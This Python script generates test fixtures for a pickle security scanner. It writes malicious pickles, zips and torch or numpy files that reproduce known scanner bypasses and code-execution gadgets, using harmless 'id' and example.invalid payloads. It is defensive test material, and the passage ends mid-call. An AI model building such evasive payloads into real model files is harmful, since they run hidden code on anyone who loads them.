#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""gen-pickles.py: writes the pickle fixtures of mavis and their expected.tsv.

Malicious fixtures cover every row of the bypass catalogue (shared/reference/pickle.md,
section 6) that concerns pickles, plus engine evasions and hostile malformed files; they
are assembled from opcode bytes so that they hold exactly the trick under test. Benign
fixtures are written the way the real libraries write them: the standard pickle module
here, and PyTorch, NumPy and joblib when this runs under an interpreter that has them
(Debian's /usr/bin/python3 with python3-torch, python3-numpy and python3-joblib). Files a
missing library would write are kept as they are, so the checked-in set stays complete.

Every payload is harmless if loaded by mistake ('id', 'true', example.invalid URLs), and
each payload's imports are confirmed with CPython's own unpickler (find_class overridden,
nothing run) so a fixture cannot silently stop exercising its trick.

Usage: python3 gen-pickles.py [OUTDIR]   (default: the folder of this script)
"""

import base64
import binascii
import collections
import io
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
EXPECTED = []          # (name, rules or "-")

# ---- opcode helpers ----------------------------------------------------------------------


def proto(n):
    return b"\x80" + bytes([n])


def glob(m, n):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def inst(m, n):
    return b"i" + m.encode() + b"\n" + n.encode() + b"\n"


def su(s):                      # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):                      # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def bu8(s):                     # BINUNICODE8
    b = s.encode()
    return b"\x8d" + struct.pack("<Q", len(b)) + b


def uni(s):                     # UNICODE (protocol 0)
    return b"V" + s.encode("raw_unicode_escape") + b"\n"


def string(s):                  # STRING (protocol 0)
    return b"S'" + s.encode() + b"'\n"


def binstring(s):
    b = s.encode()
    return b"T" + struct.pack("<I", len(b)) + b


def sbinstring(s):
    b = s.encode()
    return b"U" + bytes([len(b)]) + b


def binbytes(b):
    return b"B" + struct.pack("<I", len(b)) + b


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


MARK, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b"t", b"\x85", b"\x86", b"\x87"
REDUCE, STOP, POP, BUILD, EMPTY_TUPLE = b"R", b".", b"0", b"b", b")"
STACK_GLOBAL, MEMOIZE, NEWOBJ, NEWOBJ_EX = b"\x93", b"\x94", b"\x81", b"\x92"
EMPTY_DICT, EMPTY_LIST, SETITEM, SETITEMS, APPEND = b"}", b"]", b"s", b"u", b"a"
NONE, NEWTRUE, NEWFALSE, OBJ, DICT = b"N", b"\x88", b"\x89", b"o", b"d"


def args(*vals):
    """A tuple of str/int/bytes/None values, as MARK ... TUPLE."""
    out = MARK
    for v in vals:
        if v is None:
            out += NONE
        elif isinstance(v, bool):
            out += NEWTRUE if v else NEWFALSE
        elif isinstance(v, int):
            out += b"J" + struct.pack("<i", v)
        elif isinstance(v, bytes):
            out += binbytes(v)
        elif isinstance(v, dict) and not v:
            out += EMPTY_DICT
        elif isinstance(v, (list, tuple)) and all(isinstance(x, str) for x in v):
            out += EMPTY_LIST + MARK + b"".join(bu(x) for x in v) + b"e"
        else:
            out += bu(v)
    return out + TUPLE


def gadget(m, n, *a, p=2):
    """m.n(*a) through GLOBAL and REDUCE; a dotted n needs protocol 4 to resolve."""
    return proto(4 if "." in n else p) + glob(m, n) + args(*a) + REDUCE + STOP


def sgadget(m, n, *a, op=su):
    """m.n(*a) through STACK_GLOBAL fed by the string opcode op."""
    return proto(4) + op(m) + op(n) + STACK_GLOBAL + args(*a) + REDUCE + STOP


# ---- checking a fixture with CPython's own unpickler ---------------------------------------


class _Stub:
    def __init__(self, *a, **k):
        pass

    def __call__(self, *a, **k):
        return _Stub()

    def __setstate__(self, *state):
        pass

    def __getattr__(self, name):
        return _Stub()


def resolved(data):
    """(module, name) pairs CPython's unpickler asks for, over every stream; nothing runs."""
    seen = []

    class Rec(pickle.Unpickler):
        def find_class(self, module, name):
            seen.append((module, name))
            return _Stub

        def persistent_load(self, pid):
            return _Stub()

    f = io.BytesIO(data)
    for _ in range(32):
        if f.tell() >= len(data):
            break
        try:
            Rec(f, fix_imports=False).load()
        except Exception:
            break
    return seen


# ---- writing -------------------------------------------------------------------------------


def write(name, data, rules, imports=None):
    """Write fixture name; rules is a comma list or "-" (benign). imports: a (module, name)
    CPython must resolve from it, checked here."""
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    if imports is not None:
        got = resolved(data)
        if imports not in got:
            sys.exit("%s: CPython resolves %r, not %r" % (name, got, imports))
    EXPECTED.append((name, rules))


def keep(name, rules):
    """A fixture a library writes; kept as checked in when the library is missing here."""
    if os.path.exists(os.path.join(OUT, name)):
        EXPECTED.append((name, rules))


def zip_bytes(members, compress=zipfile.ZIP_STORED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", compress) as z:
        for n, d in members:
            z.writestr(n, d)
    return bio.getvalue()


def torch_zip(data_pkl, extra=(), top="archive"):
    """A torch.save-style zip: <top>/data.pkl, <top>/version (what torch.load reads)."""
    return zip_bytes([(top + "/data.pkl", data_pkl), (top + "/version", b"3\n")] +
                     [(top + "/" + n, d) for n, d in extra])


DENIED = "pickle.global.denied"
RISKY = "pickle.global.risky"
UNKNOWN = "pickle.global.unknown"
DYNAMIC = "pickle.callable.dynamic"
CMD = "id"

# ---- 1. the bypass catalogue ---------------------------------------------------------------

# picklescan #14: memo desync. Real indices (MEMOIZE stores at the count of memo entries)
# hold os/system; a scanner counting MEMOIZE from 0 sees collections/OrderedDict there.
write("cat_memo_desync.pkl",
      proto(4) + su("os") + binput(0) + POP + su("system") + binput(1) + POP +
      su("collections") + MEMOIZE + POP + su("OrderedDict") + MEMOIZE + POP +
      binget(0) + binget(1) + STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP,
      DENIED, ("os", "system"))

# picklescan #22 (ImaginaryCTF "Safe Pickle"): protocol 0 PUT/POP, then decoys next to the
# STACK_GLOBAL while the memo holds the real names.
write("cat_put_pop_decoy.pkl",
      uni("os") + b"p0\n" + POP + uni("system") + b"p1\n" + POP +
      uni("torch") + uni("LongStorage") + POP + POP +
      b"g0\n" + b"g1\n" + STACK_GLOBAL + uni(CMD) + TUPLE1 + REDUCE + STOP,
      DENIED, ("os", "system"))

# picklescan #21: INST imports and calls at once.
write("cat_inst_exec.pkl", MARK + string("print(1)") + inst("__builtin__", "exec") + STOP,
      DENIED, ("__builtin__", "exec"))

# picklescan #26: hand-edited pickles, with line ends CPython still accepts.
write("cat_newline_trailing.pkl",
      glob("os", "system") + MARK + string(CMD) + TUPLE + REDUCE + STOP + b"\n\n", DENIED,
      ("os", "system"))
write("cat_newline_crlf.pkl",
      glob("os", "system") + MARK + string(CMD) + b"I1\r\n" + TUPLE + REDUCE + STOP + b"\r\n",
      DENIED, ("os", "system"))

# CVE-2025-1716: pip missing from a denylist.
write("cat_pip_main.pkl", gadget("pip", "main", ["install", "example-invalid"]), DENIED,
      ("pip", "main"))

# CVE-2025-1889: a pickle stored under another extension inside a zip.
write("cat_zip_data_txt.zip", zip_bytes([("archive/data.txt", gadget("os", "system", CMD))]),
      DENIED)
write("cat_zip_data_txt_p0.zip",
      zip_bytes([("archive/notes.txt",
                  glob("os", "system") + MARK + string(CMD) + TUPLE + REDUCE + STOP)]),
      DENIED)

# CVE-2025-1944: local and central names differ (data.pkl renamed in the local header).
z = bytearray(torch_zip(gadget("os", "system", CMD)))
i = z.find(b"PK\x03\x04")
n = struct.unpack("<H", z[i + 26:i + 28])[0]
z[i + 30:i + 30 + n] = z[i + 30:i + 30 + n].replace(b"data.pkl", b"data.txt")
write("cat_zip_name_mismatch.zip", bytes(z), DENIED + ",zip.header.mismatch")

# CVE-2025-1945: general-purpose flag bits PyTorch ignores, one fixture each.
for bit in (0x1, 0x20, 0x40):
    z = bytearray(torch_zip(gadget("os", "system", CMD)))
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        j = z.find(sig)
        fl = struct.unpack("<H", z[j + off:j + off + 2])[0] | bit
        z[j + off:j + off + 2] = struct.pack("<H", fl)
    # An encrypted-flagged member may not be readable: inconclusive is acceptable there,
    # clean is not.
    write("cat_zip_flag_%02x.zip" % bit, bytes(z),
          "archive.entry.encrypted,analysis.incomplete" if bit in (0x1, 0x40) else DENIED)

# GHSA-655q-fx9r-782v: torch gadgets missing from denylists.
write("cat_inductor_compile_file.pkl",
      gadget("torch._inductor.codecache", "compile_file", "/tmp/x.py", "/tmp/x", ["true"]),
      DENIED, ("torch._inductor.codecache", "compile_file"))
write("cat_pydoc_pipepager.pkl", gadget("pydoc", "pipepager", "text", CMD), DENIED,
      ("pydoc", "pipepager"))
write("cat_partial_torch_load.pkl",
      proto(2) + glob("functools", "partial") + MARK + glob("torch", "load") +
      bu("model.bin") + TUPLE + REDUCE + EMPTY_TUPLE + REDUCE + STOP, DENIED + "," + DYNAMIC,
      ("torch", "load"))
write("cat_venv_create.pkl", gadget("venv", "create", "/tmp/venv-x"), DENIED,
      ("venv", "create"))

# CVE-2025-10155: a raw protocol-0 pickle named like PyTorch weights.
write("pytorch_model.bin", glob("os", "system") + MARK + string(CMD) + TUPLE + REDUCE + STOP,
      DENIED, ("os", "system"))

# CVE-2025-10156: a CRC mismatch Python's zipfile rejects and PyTorch ignores.
z = bytearray(torch_zip(gadget("os", "system", CMD)))
j = z.find(b"PK\x01\x02")
z[j + 16] ^= 0xff
j = z.find(b"PK\x03\x04")
z[j + 14] ^= 0xff
write("cat_zip_crc.zip", bytes(z), DENIED + ",archive.read.warning")

# CVE-2025-10157: a submodule of a module denied whole.
write("cat_asyncio_submodule.pkl",
      gadget("asyncio.unix_events", "_UnixSubprocessTransport._start", CMD), DENIED,
      ("asyncio.unix_events", "_UnixSubprocessTransport._start"))

# GHSA-9gvj-pp9x-gcfr: STACK_GLOBAL fed by STRING opcodes.
write("cat_stack_global_string.pkl",
      string("os") + string("system") + STACK_GLOBAL + string(CMD) + TUPLE1 + REDUCE + STOP,
      DENIED, ("os", "system"))

# picklescan #52: a GET of a key never stored, and an integer in the memo.
write("cat_memo_missing.pkl",
      proto(4) + su("os") + binput(0) + binget(7) + STACK_GLOBAL + su(CMD) + TUPLE1 +
      REDUCE + STOP, "pickle.memo.invalid," + DYNAMIC)
write("cat_memo_int.pkl",
      proto(4) + b"K\x05" + binput(0) + POP + su("os") + binget(0) + STACK_GLOBAL +
      su(CMD) + TUPLE1 + REDUCE + STOP, DYNAMIC)

# GHSA-97f8-7cmv-76j2 and the legacy bypasses: stacked pickles, payload past the first.
MAGIC = 0x1950A86A20F9469CFC6C


def legacy(main_obj, first=None):
    p = first if first is not None else pickle.dumps(MAGIC, protocol=2)
    p += pickle.dumps(1001, protocol=2)
    p += pickle.dumps({"protocol_version": 1001, "little_endian": True,
                       "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    return p + main_obj + pickle.dumps([], protocol=2)


write("cat_legacy_eval_magic.pt",
      legacy(pickle.dumps(collections.OrderedDict(), protocol=2),
             first=gadget("builtins", "eval", "0x1950a86a20f9469cfc6c")) +
      gadget("os", "system", CMD),
      DENIED + ",torch.legacy.magic", ("builtins", "eval"))
write("cat_legacy_stream4.pt", legacy(gadget("os", "system", CMD)), DENIED,
      ("os", "system"))

# modelscan #354: a corrupt member before data.pkl must not end the walk.
good = torch_zip(gadget("os", "system", CMD))
bad = zip_bytes([("archive/aaa_broken", b"x" * 64)], zipfile.ZIP_DEFLATED)
lh = bytearray(bad[:bad.find(b"PK\x01\x02")])
lh[30 + len("archive/aaa_broken"):] = b"\xff" * (len(lh) - 30 - len("archive/aaa_broken"))
# Lay the broken member's local header and data before the good zip; the good zip's
# central directory still finds its own members (offsets are shifted by the prefix).
zz = bytearray(good)
eocd = zz.rfind(b"PK\x05\x06")
cd_off = struct.unpack("<I", zz[eocd + 16:eocd + 20])[0]
pos = cd_off
while zz[pos:pos + 4] == b"PK\x01\x02":
    o = struct.unpack("<I", zz[pos + 42:pos + 46])[0]
    zz[pos + 42:pos + 46] = struct.pack("<I", o + len(lh))
    nl, el, cl = struct.unpack("<HHH", zz[pos + 28:pos + 34])
    pos += 46 + nl + el + cl
zz[eocd + 16:eocd + 20] = struct.pack("<I", cd_off + len(lh))
write("cat_zip_corrupt_first.zip", bytes(lh) + bytes(zz), DENIED +
      ",zip.entry.hidden,analysis.incomplete,archive.entry.unreadable")

# modelscan #330: reaching builtins through an allowlisted module, and BUILD on a function.
write("cat_numpy_builtins.pkl",
      proto(4) + glob("builtins", "dict.get") + glob("numpy", "__builtins__") + su("exec") +
      TUPLE2 + REDUCE + su("print(1)") + TUPLE1 + REDUCE + STOP, DENIED + "," + DYNAMIC,
      ("numpy", "__builtins__"))
write("cat_numpy_build_walk.pkl",
      proto(4) + glob("numpy", "prod") + NONE + glob("numpy", "core._internal.sys.modules") +
      TUPLE2 + BUILD + POP + glob("numpy", "prod.os.system") + su(CMD) + TUPLE1 + REDUCE +
      STOP, DENIED + ",pickle.build.global,pickle.global.unknown", ("numpy", "prod.os.system"))

# modelscan #331: a module name computed at load (str.join) fed to STACK_GLOBAL.
write("cat_computed_module.pkl",
      proto(4) + glob("builtins", "str.join") + su("") + EMPTY_LIST + MARK + su("o") +
      su("s") + b"e" + TUPLE2 + REDUCE + binput(0) + POP + binget(0) + su("system") +
      STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP, DYNAMIC + "," + DENIED)
write("cat_import_module.pkl",
      proto(4) + glob("importlib", "import_module") + su("os") + TUPLE1 + REDUCE + STOP,
      DENIED, ("importlib", "import_module"))

# modelscan #338: primitives missing from its list.
write("cat_collect_env_run.pkl", gadget("torch.utils.collect_env", "run", CMD), DENIED,
      ("torch.utils.collect_env", "run"))
write("cat_spawnv_passfds.pkl",
      gadget("multiprocessing.util", "spawnv_passfds", "/bin/true", ["true"], None), DENIED,
      ("multiprocessing.util", "spawnv_passfds"))
write("cat_mlflow_entry_point.pkl",
      gadget("mlflow.projects.backend.local", "_run_entry_point", CMD, "/tmp", "x", None),
      DENIED,
      ("mlflow.projects.backend.local", "_run_entry_point"))
write("cat_pandas_read_csv_url.pkl",
      gadget("pandas", "read_csv", "http://example.invalid/x.csv"), RISKY,
      ("pandas", "read_csv"))
write("cat_urlretrieve.pkl",
      gadget("urllib.request", "urlretrieve", "http://example.invalid/x", "/tmp/x"), RISKY,
      ("urllib.request", "urlretrieve"))

# modelscan #267: pickle.loads of an inner pickle, raw, base64 and hex.
INNER = gadget("os", "system", CMD)
write("cat_nested_raw.pkl",
      proto(3) + glob("pickle", "loads") + binbytes(INNER) + TUPLE1 + REDUCE + STOP,
      DENIED + ",pickle.nested", ("pickle", "loads"))
write("cat_nested_base64.pkl",
      proto(3) + glob("pickle", "loads") + glob("base64", "b64decode") +
      bu(base64.b64encode(INNER).decode()) + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP,
      DENIED + ",pickle.nested,pickle.global.unknown", ("pickle", "loads"))
write("cat_nested_hex.pkl",
      proto(3) + glob("pickle", "loads") + glob("binascii", "unhexlify") +
      bu(binascii.hexlify(INNER).decode()) + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP,
      DENIED + ",pickle.nested,pickle.global.unknown", ("pickle", "loads"))
# A benign-looking outer call whose string argument hides the payload.
write("cat_nested_in_arg.pkl",
      proto(3) + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE +
      POP + bu(base64.b64encode(INNER).decode()) + STOP, "pickle.nested," + DENIED)

# nullifAI: a payload followed by a broken stream; and a 7z-wrapped torch zip.
write("cat_broken_after_payload.pkl",
      proto(2) + glob("os", "system") + bu(CMD) + TUPLE1 + REDUCE + b"\xfe\xfe garbage",
      DENIED + ",pickle.parse.error", ("os", "system"))
if shutil.which("7z"):
    with tempfile.TemporaryDirectory() as td:
        src = os.path.join(td, "model.pt")
        with open(src, "wb") as f:
            f.write(torch_zip(gadget("os", "system", CMD)))
        dst = os.path.join(td, "model.7z")
        subprocess.run(["7z", "a", "-bd", "-mx=1", dst, src], check=True,
                       stdout=subprocess.DEVNULL)
        with open(dst, "rb") as f:
            write("cat_7z_torch.7z", f.read(), DENIED)
else:
    keep("cat_7z_torch.7z", DENIED)

# Stdlib and torch gadgets that take a code string or a command (GHSA rows of 2025-2026,
# fickling and ModelAudit advisories): one fixture per gadget.
GADGETS = [
    ("trace", "Trace.runctx", ("print(1)", None, None)),
    ("profile", "run", ("print(1)",)),
    ("profile", "Profile.runctx", ("print(1)", None, None)),
    ("cProfile", "run", ("print(1)",)),
    ("cProfile", "runctx", ("print(1)", None, None)),
    ("doctest", "debug_script", ("print(1)",)),
    ("ensurepip", "_run_pip", (["--version"],)),
    ("code", "InteractiveInterpreter.runcode", (None, "print(1)")),
    ("idlelib.autocomplete", "AutoComplete.get_entity", (None, "print")),
    ("idlelib.calltip", "Calltip.fetch_tip", (None, "print")),
    ("idlelib.calltip", "get_entity", ("print",)),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", (None, "print(1)")),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", (None, "print(1)")),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand", (None, "print(1)")),
    ("idlelib.run", "Executive.runcode", (None, "print(1)")),
    ("lib2to3.pgen2.grammar", "Grammar.loads", (b"\x80\x04N.",)),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, None, "x")),
    ("torch.utils.bottleneck.__main__", "run_cprofile", ("print(1)", {})),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", ("print(1)", {})),
    ("torch._dynamo.guards", "GuardBuilder.get", (None, "print(1)")),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
     (None, "print(1)", [])),
    ("torch.utils.collect_env", "run_and_read_all", (None, CMD)),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"\x80\x04N.")),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", ("print(1)", {}, {})),
    ("torch.utils._config_module", "ConfigModule.load_config", (None, b"\x80\x04N.")),
    ("distutils.file_util", "write_file", ("/tmp/x", ["x"])),
    ("ctypes", "CDLL", ("libc.so.6",)),
    ("pydoc", "locate", ("os.system",)),
    ("pty", "spawn", (CMD,)),
    ("numpy.f2py.crackfortran", "getlincoef", ("__import__('os')", {})),
    ("_operator", "methodcaller", ("system", CMD)),
    ("_operator", "attrgetter", ("system",)),
    ("operator", "itemgetter", (0,)),
    ("logging", "FileHandler", ("/tmp/x.log",)),
    ("types", "CodeType", (0, 0, 0, 0, 0, 0, b"", (), (), (), "x", "x", "x", 0, b"", b"")),
    ("types", "FunctionType", (None, {})),
    ("cloudpickle.cloudpickle", "_make_function", (None, {}, "x", None, None)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("uuid", "_get_command_stdout", (CMD,)),
    ("_osx_support", "_read_output", (CMD,)),
    ("_osx_support", "_find_build_tool", (CMD,)),
    ("_aix_support", "_read_cmd_output", (CMD,)),
    ("imaplib", "IMAP4_stream", (CMD,)),
    ("_pyrepl.pager", "pipe_pager", ("text", CMD)),
    ("test.support.script_helper", "assert_python_ok", ("-c", "print(1)")),
    ("importlib.util", "find_spec", ("os",)),
    ("importlib.util", "module_from_spec", (None,)),
    ("marshal", "loads", (b"\xe3",)),
    ("runpy", "run_path", ("/tmp/x.py",)),
    ("runpy", "run_module", ("os",)),
    ("multiprocessing", "Process", ()),
    ("subprocess", "Popen", ([CMD],)),
    ("subprocess", "check_output", ([CMD],)),
    ("posix", "system", (CMD,)),
    ("nt", "system", (CMD,)),
    ("builtins", "eval", ("1",)),
    ("builtins", "exec", ("1",)),
    ("builtins", "compile", ("1", "x", "eval")),
    ("builtins", "getattr", (None, "system")),
    ("builtins", "open", ("/tmp/x", "w")),
    ("builtins", "__import__", ("os",)),
    ("__builtin__", "apply", (None,)),
    ("__builtins__", "eval", ("1",)),
    ("_thread", "start_new_thread", (None, ())),
    ("linecache", "getline", ("/etc/hostname", 1)),
    ("logging.config", "listen", (0,)),
    ("zipimport", "zipimporter", ("/tmp/x.zip",)),
    ("pdb", "run", ("print(1)",)),
    ("timeit", "timeit", ("print(1)",)),
    ("_interpreters", "create", ()),
    ("_xxsubinterpreters", "create", ()),
    ("socket", "create_connection", ("example.invalid",)),
    ("webbrowser", "open", ("http://example.invalid/",)),
    ("shutil", "rmtree", ("/tmp/x",)),
    ("sys", "exit", (0,)),
    ("asyncio", "create_subprocess_shell", (CMD,)),
    ("copyreg", "add_extension", ("os", "system", 240)),
    ("numpy", "load", ("x.npy", None, True)),
    ("pandas", "read_pickle", ("x.pkl",)),
    ("torch", "load", ("x.pt",)),
    ("joblib", "load", ("x.joblib",)),
    ("dill", "loads", (b"\x80\x04N.",)),
    ("keras.models", "load_model", ("x.keras",)),
    ("torch.storage", "_load_from_bytes", (b"\x80\x04N.",)),
    ("numpy.testing._private.utils", "runstring", ("print(1)", {})),
    ("picklescan.scanner", "scan_pickle_bytes", (b"",)),
    ("smtplib", "SMTP", ("example.invalid",)),
    ("io", "FileIO", ("/tmp/x", "w")),
    ("_io", "FileIO", ("/tmp/x", "w")),
    ("urllib.request", "urlopen", ("http://example.invalid/",)),
    ("requests", "get", ("http://example.invalid/",)),
    ("httplib", "HTTPConnection", ("example.invalid",)),
    ("commands", "getoutput", (CMD,)),
    ("cPickle", "loads", (b"N.",)),
]
for m, n, a in GADGETS:
    fname = "gadget_%s_%s.pkl" % (m.replace(".", "_"), n.replace(".", "_"))
    data = gadget(m, n, *a)
    rules = DENIED
    sev_high = {"logging.FileHandler", "linecache.getline", "zipimport.zipimporter",
                "pandas.read_csv", "urllib.request.urlopen", "socket.create_connection",
                "webbrowser.open", "smtplib.SMTP", "io.FileIO", "_io.FileIO",
                "requests.get", "httplib.HTTPConnection"}
    if m + "." + n in sev_high:
        rules = RISKY
    if m == "zipimport":
        rules = DENIED
    write(fname, data, rules, (m, n))

# GHSA-jhph-76pp-mggw: the callee is flagged, not only the global passed as an argument.
write("cat_run_and_read_all.pkl",
      proto(2) + glob("torch.utils.collect_env", "run_and_read_all") + MARK +
      glob("torch.utils.collect_env", "run") + bu(CMD) + TUPLE + REDUCE + STOP, DENIED,
      ("torch.utils.collect_env", "run_and_read_all"))

# GHSA-r7v6 / 565g: types.FunctionType(marshal.loads(...)).
write("cat_function_marshal.pkl",
      proto(2) + glob("types", "FunctionType") + MARK + glob("marshal", "loads") +
      binbytes(b"\xe3\x00") + TUPLE1 + REDUCE + EMPTY_DICT + TUPLE + REDUCE + STOP, DENIED,
      ("marshal", "loads"))

# GHSA-h4rm-mm56-xf63: __import__ then a getattr chain through PUT/GET.
write("cat_import_getattr_chain.pkl",
      proto(2) + glob("builtins", "getattr") + binput(0) + POP +
      glob("builtins", "__import__") + bu("os") + TUPLE1 + REDUCE + binput(1) + POP +
      binget(0) + binget(1) + bu("system") + TUPLE2 + REDUCE + bu(CMD) + TUPLE1 + REDUCE +
      STOP, DENIED + "," + DYNAMIC, ("builtins", "getattr"))

# GHSA-mxhj-88fx-4pcv: an OBJ call whose result is popped still runs.
write("cat_obj_pop.pkl",
      proto(4) + MARK + su("smtplib") + su("SMTP") + STACK_GLOBAL +
      bu("example.invalid") + OBJ + POP + NONE + STOP, RISKY, ("smtplib", "SMTP"))

# GHSA-5j3x-jp52-966f: a dotted name through an innocuous module.
write("cat_pathlib_os_system.pkl", sgadget("pathlib", "os.system", CMD), DENIED,
      ("pathlib", "os.system"))
write("cat_eval_call_dotted.pkl", sgadget("builtins", "eval.__call__", "1"), DENIED,
      ("builtins", "eval.__call__"))

# GHSA-cffv-grgg-g429: a callable on no list at all still shows (medium).
write("cat_ast_parse.pkl", gadget("ast", "parse", "1"), UNKNOWN, ("ast", "parse"))

# CPython issue 154848: a frame shorter than the BINBYTES in it.
body = (b"C" + bytes([24]) + b"A" * 24 + POP + glob("os", "system") + bu(CMD) + TUPLE1 +
        REDUCE + STOP)
write("cat_frame_short.pkl", proto(4) + b"\x95" + struct.pack("<Q", 4) + body,
      "pickle.frame.invalid," + DENIED, ("os", "system"))

# fickling #125: STACK_GLOBAL over strings computed with itemgetter and join.
write("cat_itemgetter_join.pkl",
      proto(4) + glob("builtins", "str.join") + su("") + glob("operator", "itemgetter") +
      b"K\x0e" + b"K\x12" + TUPLE2 + REDUCE + su("abcdefghijklmnopqrstuvwxyz") + TUPLE1 +
      REDUCE + TUPLE2 + REDUCE + su("system") + STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE +
      STOP, DYNAMIC + "," + DENIED)

# ModelAudit gen_bypass_v4: STACK_GLOBAL through BINUNICODE8.
write("cat_stack_global_binunicode8.pkl", sgadget("os", "system", CMD, op=bu8), DENIED,
      ("os", "system"))

# ModelAudit #623: EXT codes, registered in the same pickle and not registered.
write("cat_ext1_registered.pkl",
      gadget("copyreg", "add_extension", "os", "system", 240)[:-1] + POP +
      b"\x82\xf0" + bu(CMD) + TUPLE1 + REDUCE + STOP, "pickle.opcode.ext," + DENIED)
write("cat_ext2_unregistered.pkl",
      proto(2) + b"\x83\x34\x12" + bu(CMD) + TUPLE1 + REDUCE + STOP, "pickle.opcode.ext")
write("cat_ext4_unregistered.pkl",
      proto(2) + b"\x84\x78\x56\x34\x12" + bu(CMD) + TUPLE1 + REDUCE + STOP,
      "pickle.opcode.ext")

# ModelAudit #518 / "4 malicious models": decoy strings after the real ones, BINGET.
write("cat_decoy_binget.pkl",
      proto(4) + su("os") + MEMOIZE + su("system") + MEMOIZE + POP + POP +
      su("collections") + su("OrderedDict") + POP + POP + binget(0) + binget(1) +
      STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP, DENIED, ("os", "system"))

# CVE-2025-32434: a torch archive whose pickle uses opcodes and globals outside what the
# weights_only loader accepts.
write("cat_torch_weights_only.pt",
      torch_zip(sgadget("os", "system", CMD)),
      "torch.opcode.unsupported," + DENIED + ",torch.proto.unexpected")
# CVE-2026-24747: SETITEM on the tensor _rebuild_tensor_v2 returned.
tensor = (glob("torch._utils", "_rebuild_tensor_v2") + MARK + MARK + bu("storage") +
          glob("torch", "FloatStorage") + bu("0") + bu("cpu") + b"K\x01" + TUPLE +
          b"Q" + b"K\x00" + b"K\x01" + TUPLE1 + b"K\x01" + TUPLE1 + NEWFALSE +
          glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE)
write("cat_torch_setitem_tensor.pt",
      torch_zip(proto(2) + tensor + bu("shape") + bu("x") + SETITEM + STOP,
                extra=[("data/0", b"\0" * 4)]),
      "torch.mutation.invalid")
write("cat_torch_persid_bad.pt",
      torch_zip(proto(2) + bu("not a storage") + b"Q" + STOP), "torch.persid.invalid")
write("cat_torch_constants_payload.pt",
      zip_bytes([("m/data.pkl", proto(2) + EMPTY_DICT + STOP),
                 ("m/constants.pkl", gadget("os", "system", CMD)),
                 ("m/version", b"3\n")]),
      DENIED + ",torch.torchscript.code")
write("cat_torch_debug_pkl.pt",
      zip_bytes([("m/data.pkl", proto(2) + EMPTY_DICT + STOP),
                 ("m/code/__torch__.py.debug_pkl", gadget("os", "system", CMD)),
                 ("m/version", b"3\n")]), DENIED)
write("cat_torch_other_folder.pt",
      torch_zip(gadget("os", "system", CMD), top="some_other_name"), DENIED)

# CVE-2019-6446: an object .npy whose pickle runs code.
def npy_header(descr, shape, version=1):
    h = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    pad = 64 - (10 + len(h) + 1) % 64
    h = (h + " " * pad + "\n").encode()
    if version == 1:
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<I", len(h)) + h


write("cat_npy_object.npy", npy_header("|O", (1,)) + gadget("os", "system", CMD),
      "numpy.object.array," + DENIED)
write("cat_npz_object.npz",
      zip_bytes([("arr_0.npy", npy_header("|O", (1,)) + gadget("os", "system", CMD))]),
      "numpy.object.array," + DENIED)

# ---- 2. engine evasion and structure ----------------------------------------------------

for opname, op in (("unicode", uni), ("short_binunicode", su), ("binunicode", bu),
                   ("binunicode8", bu8), ("string", string), ("binstring", binstring),
                   ("short_binstring", sbinstring)):
    write("eva_stack_global_%s.pkl" % opname, sgadget("os", "system", CMD, op=op), DENIED,
          ("os", "system"))

write("eva_unicode_escape.pkl",
      proto(4) + b"V\\u006fs\n" + b"Vsys\\u0074em\n" + STACK_GLOBAL + su(CMD) + TUPLE1 +
      REDUCE + STOP, DENIED, ("os", "system"))
write("eva_string_escape.pkl",
      proto(4) + b"S'\\x6fs'\n" + b"S'sys\\164em'\n" + STACK_GLOBAL + su(CMD) + TUPLE1 +
      REDUCE + STOP, DENIED, ("os", "system"))
write("eva_newobj.pkl",
      proto(2) + glob("subprocess", "Popen") + MARK + bu(CMD) + TUPLE + NEWOBJ + STOP,
      DENIED, ("subprocess", "Popen"))
write("eva_newobj_ex.pkl",
      proto(4) + glob("subprocess", "Popen") + MARK + bu(CMD) + TUPLE + EMPTY_DICT +
      NEWOBJ_EX + STOP, DENIED, ("subprocess", "Popen"))
write("eva_obj.pkl", MARK + glob("os", "system") + string(CMD) + OBJ + STOP,
      DENIED, ("os", "system"))
write("eva_build_slotstate.pkl",
      proto(2) + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + NONE +
      EMPTY_DICT + bu("x") + glob("os", "system") + SETITEM + TUPLE2 + BUILD + STOP,
      DENIED, ("os", "system"))
write("eva_benign_then_payload.pkl",
